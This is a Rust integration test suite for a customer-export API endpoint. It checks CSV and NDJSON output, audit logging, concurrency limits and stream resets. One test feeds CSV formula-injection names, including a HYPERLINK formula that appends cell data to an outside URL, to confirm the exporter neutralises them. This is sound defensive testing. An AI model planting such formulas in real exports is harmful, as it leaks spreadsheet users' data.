//! The download of the customers that a filter finds. It is sent while it is written, and ends with its client.

use std::time::Duration;

use jsonwebtoken::dangerous::insecure_decode;
use patron::app::ctx::AdminCtx;
use patron::entity::customer::{self, Model};
use patron::entity::{admin_user, journal_entry};
use patron::service::admin::set_password;
use patron::types::{EmailAddress, EventKind, Password};
use sea_orm::ActiveValue::Set;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::unread_client::{Client, PATIENCE, read};
use crate::support::{
    ADMIN_EMAIL, ADMIN_PASSWORD, Actor, TestApp, TestResponse, apply, dump, on_both_databases, sign,
};

const EXPORT: &str = "/api/customers/export";
/// The number of exports that run at once, and of those of one admin.
const MAX_EXPORTS: usize = 4;
const MAX_EXPORTS_OF_ADMIN: usize = 2;

async fn export(app: &TestApp, format: &str, filter: &Value) -> TestResponse {
    let (admin, filter) = (app.admin(), filter.to_string());
    let request = admin.request(reqwest::Method::GET, EXPORT);
    admin.send(request.query(&[("format", format), ("filter", filter.as_str())])).await
}

/// The records of a CSV file by the names of its columns.
fn csv_records(text: &str) -> Vec<Value> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let object = |cells: &csv::StringRecord| -> Value {
        header.iter().zip(cells).map(|(name, cell)| (name.to_owned(), json!(cell))).collect()
    };
    reader.records().map(|cells| object(&cells.unwrap())).collect()
}

fn ndjson_records(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn uuids(records: &[Value]) -> Vec<&str> {
    records.iter().map(|record| record["uuid"].as_str().unwrap()).collect()
}

async fn exports_in_journal(app: &TestApp) -> Vec<journal_entry::Model> {
    let kind = journal_entry::Column::Kind.eq(EventKind::ExportCreated);
    let entries = journal_entry::Entity::find().filter(kind);
    entries.order_by_asc(journal_entry::Column::JournalEntryId).all(app.app.db.writer()).await.unwrap()
}

/// Waits until this many exports are running.
async fn until_running(app: &TestApp, count: usize) {
    let limits = &app.app.export_limits;
    let reached = async {
        while limits.running() != count {
            sleep(Duration::from_millis(5)).await;
        }
    };
    assert!(timeout(PATIENCE, reached).await.is_ok(), "{} exports are running", limits.running());
}

/// More customers than a batch has, with a name in two scripts, emoji, quotation marks and separators.
#[apply(on_both_databases!)]
async fn a_file_has_what_the_filter_finds(app: &TestApp) {
    let name = "عميل \"x\", ツ;\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} =1+1";
    let first = app.register("first@x.io").await;
    let first_url = format!("/api/customers/{}", first["uuid"].as_str().unwrap());
    app.admin().patch(&first_url, &json!({"full_name": name})).await.data();
    let copies = app.copy_customer(&app.customers().await[0], 250).await;
    app.add_address(&first, "US-CA", true).await;
    app.admin().patch(&first_url, &json!({"status": 0})).await.data();
    app.admin().patch(&format!("/api/customers/{}", copies[7]), &json!({"status": 0})).await.data();
    let enabled = json!({"status": {"eq": 1}});
    let expected: Vec<&str> = copies.iter().filter(|uuid| **uuid != copies[7]).map(String::as_str).collect();
    for (format, content_type, file) in [
        ("csv", "text/csv; charset=utf-8; header=present", "attachment; filename=\"customers.csv\""),
        ("ndjson", "application/x-ndjson", "attachment; filename=\"customers.ndjson\""),
    ] {
        let parse = if format == "csv" { csv_records } else { ndjson_records };
        let response = export(app, format, &enabled).await;
        assert_eq!((response.status, response.header("content-type")), (200, Some(content_type)));
        assert_eq!(response.header("content-disposition"), Some(file));
        assert_eq!(response.header("cache-control"), Some("no-store"));
        let records = parse(&response.text);
        // In the order of their creation.
        assert_eq!(uuids(&records), expected, "{format}");
        assert!(records.iter().all(|record| record["full_name"] == name), "{format}");
        assert!(!response.text.contains("argon2"), "{format} has password hashes");
        let disabled = parse(&export(app, format, &json!({"status": {"eq": 0}})).await.text);
        assert_eq!(uuids(&disabled), [first["uuid"].as_str().unwrap(), copies[7].as_str()], "{format}");
        let first = &disabled[0];
        let address = if format == "csv" {
            &first["addresses.1.address_1"]
        } else {
            &first["addresses"][0]["address_1"]
        };
        assert_eq!(address, "1 Market Street", "{format}: {first}");
        assert_eq!(parse(&export(app, format, &json!({})).await.text).len(), 251, "{format}");
    }
}

/// Anyone can register with any name. A spreadsheet would evaluate a cell that begins as a formula.
#[apply(on_both_databases!)]
async fn no_cell_begins_as_a_formula(app: &TestApp) {
    let definition =
        json!({"ownerType": "customer", "fieldKey": "note", "name": "Note", "fieldType": "short_text"});
    app.admin().post("/api/metafield-definitions", &definition).await.data();
    let names = [
        "=HYPERLINK(\"https://x.io?\"&A1)",
        "+1+1",
        "-A1",
        "@SUM(1)",
        "'=1",
        "'+49 89",
        "+49 (0)89 1-2",
        "'s Gravenhage",
        "1=1",
    ];
    for (number, name) in names.iter().enumerate() {
        let email = format!("=c{number}@x.io");
        let body = json!({"email": email, "full_name": name, "password": "correct horse battery"});
        let row = app.anonymous().post("/api/customers", &body).await.data();
        let url = format!("/api/customers/{}/metafields", row["uuid"].as_str().unwrap());
        app.admin().patch(&url, &json!({"metafields": {"custom": {"note": name}}})).await.data();
    }
    let file = export(app, "csv", &json!({})).await.text;
    let mut reader = csv::Reader::from_reader(file.as_bytes());
    for cells in reader.records() {
        let is_safe = |cell: &str| !cell.starts_with(['=', '+', '-', '@']) || cell == "+49 (0)89 1-2";
        assert!(cells.unwrap().iter().all(is_safe), "{file}");
    }
    let records = csv_records(&file);
    for column in ["full_name", "metafields.custom.note"] {
        let cells: Vec<&str> = records.iter().map(|record| record[column].as_str().unwrap()).collect();
        let expected = [
            "'=HYPERLINK(\"https://x.io?\"&A1)",
            "'+1+1",
            "'-A1",
            "'@SUM(1)",
            "''=1",
            "''+49 89",
            "+49 (0)89 1-2",
            "'s Gravenhage",
            "1=1",
        ];
        assert_eq!(cells, expected, "{column}");
    }
    // JSON has no formulas.
    let records = ndjson_records(&export(app, "ndjson", &json!({})).await.text);
    assert!(records.iter().zip(names).all(|(record, name)| record["full_name"] == name), "{records:?}");
}

/// CSV has columns for as many addresses as a customer of the file has, and no file loses an address.
#[apply(on_both_databases!)]
async fn every_address_has_columns(app: &TestApp) {
    for (email, addresses) in [("none@x.io", 0), ("one@x.io", 1), ("three@x.io", 3)] {
        let row = app.register(email).await;
        for number in 0..addresses {
            app.add_address(&row, "US-CA", number == 1).await;
        }
    }
    let count = |file: &str| {
        let header = file.lines().next().unwrap().to_owned();
        header.split(',').filter(|name| name.ends_with(".address_1")).count()
    };
    for (filter, expected) in [
        (json!({}), 3),
        (json!({"email": {"eq": "none@x.io"}}), 0),
        (json!({"keyword": "one@x.io"}), 1),
        (json!({"address": {"country": {"eq": "US"}}, "not": {"email": {"eq": "three@x.io"}}}), 1),
        (json!({"status": {"eq": 0}}), 0),
    ] {
        let file = export(app, "csv", &filter).await;
        assert_eq!((file.status, count(&file.text)), (200, expected), "{filter}: {}", file.text);
    }
    let records = csv_records(&export(app, "csv", &json!({})).await.text);
    let defaults = |record: &Value| [1, 2, 3].map(|n| record[format!("addresses.{n}.is_default")].clone());
    assert_eq!(defaults(&records[0]), ["", "", ""]);
    assert_eq!(defaults(&records[1]), ["false", "", ""]);
    // The default first, as imports read them.
    assert_eq!(defaults(&records[2]), ["true", "false", "false"]);
}

#[apply(on_both_databases!)]
async fn a_file_without_customers_is_complete(app: &TestApp) {
    let definition =
        json!({"ownerType": "customer", "fieldKey": "points", "name": "Points", "fieldType": "integer"});
    app.admin().post("/api/metafield-definitions", &definition).await.data();
    let nothing = json!({"status": {"eq": 0}});
    let csv = export(app, "csv", &nothing).await;
    assert_eq!(csv.status, 200);
    assert_eq!(
        csv.text.trim_end(),
        "uuid,status,group_name,full_name,email,email_verified_at,created_at,updated_at,meta_data,\
         metafields.custom.points"
    );
    let ndjson = export(app, "ndjson", &nothing).await;
    assert_eq!((ndjson.status, ndjson.text.as_str()), (200, ""));
    // Without parameters: all customers, as CSV.
    app.register("a@x.io").await;
    let all = app.admin().get(EXPORT).await;
    assert_eq!(csv_records(&all.text)[0]["email"], "a@x.io");
    until_running(app, 0).await;
}

/// HEAD has the same headers, but it does not count as an export.
#[apply(on_both_databases!)]
async fn head_does_not_export(app: &TestApp) {
    app.register("a@x.io").await;
    let all = app.admin().get(EXPORT).await;
    until_running(app, 0).await;
    let before = dump(app).await;
    // Reading customers would fail now.
    *app.app.export_limits.max_duration.write() = Duration::ZERO;
    let admin = app.admin();
    let head = async |query: &str| {
        admin.send(admin.request(reqwest::Method::HEAD, &format!("{EXPORT}{query}"))).await
    };
    let response = head("").await;
    assert_eq!((response.status, response.text.as_str()), (200, ""));
    for name in ["content-type", "content-disposition", "cache-control", "content-length"] {
        assert_eq!(response.header(name), all.header(name), "{name}");
    }
    for invalid in ["?format=xml", "?filter=%5B%5D", "?filter=%7B%22nope%22%3A1%7D"] {
        assert_eq!(head(invalid).await.status, 400, "{invalid}");
    }
    assert!(dump(app).await == before, "HEAD was recorded");
    assert_eq!(app.app.export_limits.running(), 0);
}

#[apply(on_both_databases!)]
async fn bad_parameters_are_named(app: &TestApp) {
    app.register("a@x.io").await;
    let before = dump(app).await;
    for (filter, field, message) in [
        (r#"{"nope": 1}"#, "filter.nope", "Unknown name. Known names: and, or, not"),
        (r#"{"status": {"eq": "1"}}"#, "filter.status.eq", "The value must be a whole number of 32 bits"),
        (r#"{"or": [{"email": {"like": "x"}}]}"#, "filter.or[0].email.like", "Unknown name."),
        (r#"{"metafield": {"key": "nope", "eq": 1}}"#, "filter", "There is no custom field \"custom.nope\""),
        (r#"{"status": "#, "filter", "The filter is not valid JSON"),
        ("", "filter", "The filter is not valid JSON"),
        ("[]", "filter", "A filter must be an object"),
        ("null", "filter", "A filter must be an object"),
    ] {
        let admin = app.admin();
        let request = admin.request(reqwest::Method::GET, EXPORT).query(&[("filter", filter)]);
        let response = admin.send(request).await;
        response.assert_failure(400, "validation_failed");
        let (name, text) = response.details()[0];
        assert!(name == field && text.starts_with(message), "{filter}: {name}: {text}");
    }
    for query in ["format=xml", "format=CSV", "format=csv&format=csv", "filter=%7B%7D&filter=%7B%7D"] {
        let response = app.admin().get(&format!("{EXPORT}?{query}")).await;
        response.assert_failure(400, "validation_failed");
        assert_eq!(response.details()[0].0, "format", "{query}");
    }
    assert!(dump(app).await == before, "a refused export was recorded");
    until_running(app, 0).await;
}

#[apply(on_both_databases!)]
async fn an_export_is_recorded_in_the_audit_trail(app: &TestApp) {
    let customer = app.customer("a@x.io").await;
    customer.get(EXPORT).await.assert_failure(403, "forbidden");
    app.anonymous().get(EXPORT).await.assert_failure(401, "unauthenticated");
    assert_eq!(exports_in_journal(app).await.len(), 0);
    assert_eq!(export(app, "csv", &json!({"keyword": "secret name"})).await.status, 200);
    assert_eq!(app.admin().get(EXPORT).await.status, 200);
    let entries = exports_in_journal(app).await;
    // The filter may contain personal data, which could not be erased.
    let data: Vec<Value> = entries.iter().map(|entry| entry.data.clone()).collect();
    assert_eq!(data, [json!({"filtered": true}), json!({"filtered": false})]);
    assert!(entries.iter().all(|entry| entry.customer_uuid.is_none() && entry.actor_uuid.is_some()));
}

/// Inserts customers with 24 MB in 400 rows, which are more than the buffers of a connection hold.
async fn insert_large_customers(app: &TestApp) {
    app.register("first@x.io").await;
    let row = app.customers().await.remove(0);
    let row = Model { meta_data: json!({"note": "x".repeat(60_000)}), ..row };
    app.copy_customer(&row, 400).await;
}

/// Creates an admin and returns its tokens.
async fn new_admin(app: &TestApp, email: &str) -> Value {
    let body = json!({"email": email, "full_name": "Ann", "password": ADMIN_PASSWORD});
    app.admin().post("/api/users", &body).await.data();
    app.admin_tokens(email, ADMIN_PASSWORD).await
}

/// Begins an export with this token over this version of HTTP/1, and reads nothing.
async fn begin(app: &TestApp, token: &str, version: &str) -> TcpStream {
    let address = app.url.strip_prefix("http://").unwrap();
    let socket = TcpSocket::new_v4().unwrap();
    // So that little of the file fits into the client's receive buffer.
    socket.set_recv_buffer_size(4096).unwrap();
    let mut stream = socket.connect(address.parse().unwrap()).await.unwrap();
    let request = format!("GET {EXPORT} HTTP/{version}\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    stream
}

/// Begins an export as [`begin`], and reads its start.
async fn begin_reading(app: &TestApp, token: &str, version: &str) -> TcpStream {
    let mut client = begin(app, token, version).await;
    let mut head = [0; 1024];
    client.read_exact(&mut head).await.unwrap();
    let head = String::from_utf8_lossy(&head);
    assert!(head.starts_with("HTTP/1.") && head.contains(" 200 "), "{version}: {head}");
    client
}

/// Reads the rest of an export, which does not end as a complete file.
async fn assert_reset(version: &str, mut client: TcpStream) {
    let mut rest = Vec::new();
    let ended = timeout(PATIENCE, client.read_to_end(&mut rest)).await.expect("the export ends");
    let length = rest.len();
    assert!(ended.is_err(), "HTTP/{version}: {length} bytes ended as a complete file");
    assert!(length < 24_000_000, "HTTP/{version}: {length} bytes");
}

/// A client that does not read holds one batch in memory. When it disconnects, its export ends.
#[apply(on_both_databases!)]
async fn an_export_ends_with_its_client(app: &TestApp) {
    insert_large_customers(app).await;
    let others = [new_admin(app, "ann@shop.io").await, new_admin(app, "bob@shop.io").await];
    let mut clients = Vec::new();
    for admin in [app.admin(), app.admin_with(&others[0])] {
        for _ in 0..MAX_EXPORTS_OF_ADMIN {
            clients.push(begin(app, admin.token().unwrap(), "1.1").await);
            until_running(app, clients.len()).await;
        }
        let refused = admin.get(EXPORT).await;
        refused.assert_failure(503, "unavailable");
        assert_eq!(refused.header("retry-after"), Some("10"));
    }
    assert_eq!(clients.len(), MAX_EXPORTS);
    app.admin_with(&others[1]).get(EXPORT).await.assert_failure(503, "unavailable");
    let unsent = || app.app.metrics.http.server.unsent_bytes();
    let blocked = async {
        while unsent() < 1_000_000 {
            sleep(Duration::from_millis(5)).await;
        }
    };
    assert!(timeout(PATIENCE, blocked).await.is_ok(), "{} bytes are unsent", unsent());
    assert!(unsent() < MAX_EXPORTS * 7_000_000, "{} bytes are unsent", unsent());
    // Other requests are served.
    app.admin().query("{ customers { total } }").await.data();
    drop(clients);
    until_running(app, 0).await;
    let file = app.admin().get(&format!("{EXPORT}?format=ndjson")).await;
    assert_eq!(ndjson_records(&file.text).len(), 401);
    until_running(app, 0).await;
    assert_eq!(unsent(), 0);
}

/// Over HTTP/2 the stream of a client that reads nothing is reset. A client that reads gets the whole file.
#[apply(on_both_databases!)]
async fn a_stalled_export_is_reset_over_http_2(app: &TestApp) {
    let app = app.another_with(|flags| flags.with("PATRON_STALL_TIMEOUT", "1")).await;
    insert_large_customers(&app).await;
    let token = app.admin().token().unwrap().to_owned();
    let client = Client::connect(&app, 0).await;
    let error = read(client.start_download(EXPORT, &token).await).await.expect_err("the stream is reset");
    assert_eq!(error.reason(), Some(h2::Reason::CANCEL));
    drop(client);
    let client = Client::connect(&app, 100_000).await;
    // Kept, and not read beyond the first window.
    let body = client.start_download(EXPORT, &token).await;
    until_running(&app, 0).await;
    drop((body, client));
    let client = Client::connect(&app, 100_000).await;
    let length = read(client.start_download(EXPORT, &token).await).await.expect("the whole file arrives");
    assert!(length > 24_000_000, "{length} bytes");
    drop(client);
    until_running(&app, 0).await;
    assert_eq!(app.app.metrics.http.server.unsent_bytes(), 0);
    app.stop().await;
}

/// An export that fails after its start does not look like a complete file, not even over HTTP/1.0. Here it fails because
/// the admin was disabled.
#[apply(on_both_databases!)]
async fn an_export_that_fails_is_not_a_complete_file(app: &TestApp) {
    insert_large_customers(app).await;
    let (admin, mut clients) = (app.admin(), Vec::new());
    for version in ["1.0", "1.1"] {
        clients.push((version, begin_reading(app, admin.token().unwrap(), version).await));
    }
    let disabled = admin_user::ActiveModel { status: Set(false), ..Default::default() };
    admin_user::Entity::update_many().set(disabled).exec(app.app.db.writer()).await.unwrap();
    for (version, client) in clients {
        assert_reset(version, client).await;
    }
    until_running(app, 0).await;
}

/// A token of EverShop has no session that could end with it.
#[apply(on_both_databases!)]
async fn an_export_ends_when_its_token_is_invalidated(app: &TestApp) {
    insert_large_customers(app).await;
    let mut claims: Value = insecure_decode(app.admin().token().unwrap()).unwrap().claims;
    claims.as_object_mut().unwrap().remove("sid").unwrap();
    let client = begin_reading(app, &sign("admin", &claims), "1.1").await;
    let (email, password) =
        (EmailAddress::parse_local(ADMIN_EMAIL), Password::new("another good one".into()));
    let ctx = AdminCtx::system(app.app.clone());
    set_password(&ctx, &email.unwrap(), &password.unwrap()).await.unwrap();
    assert_reset("1.1", client).await;
    until_running(app, 0).await;
}

#[apply(on_both_databases!)]
async fn an_export_that_takes_too_long_ends(app: &TestApp) {
    insert_large_customers(app).await;
    let limit = &app.app.export_limits.max_duration;
    assert_eq!(*limit.read(), Duration::from_secs(60 * 60));
    let client = begin_reading(app, app.admin().token().unwrap(), "1.1").await;
    *limit.write() = Duration::ZERO;
    assert_reset("1.1", client).await;
    // Before its start, it is a failure.
    app.admin().get(EXPORT).await.assert_failure(503, "unavailable");
    until_running(app, 0).await;
}

/// Customers that are added or deleted during an export neither repeat nor hide others.
#[apply(on_both_databases!)]
async fn customers_may_change_during_an_export(app: &TestApp) {
    insert_large_customers(app).await;
    let admin = app.admin();
    let request = admin.request(reqwest::Method::GET, EXPORT).query(&[("format", "ndjson")]);
    let mut response = request.send().await.unwrap();
    let mut file = response.chunk().await.unwrap().unwrap().to_vec();
    let last = app.customers().await.pop().unwrap();
    customer::Entity::delete_by_id(last.customer_id).exec(app.app.db.writer()).await.unwrap();
    app.register("second@x.io").await;
    while let Some(bytes) = response.chunk().await.unwrap() {
        file.extend_from_slice(&bytes);
    }
    let records = ndjson_records(std::str::from_utf8(&file).unwrap());
    let mut found = uuids(&records);
    assert_eq!(records.last().unwrap()["email"], "second@x.io");
    assert_eq!(found.len(), 401);
    found.sort_unstable();
    found.dedup();
    assert_eq!(found.len(), 401);
}
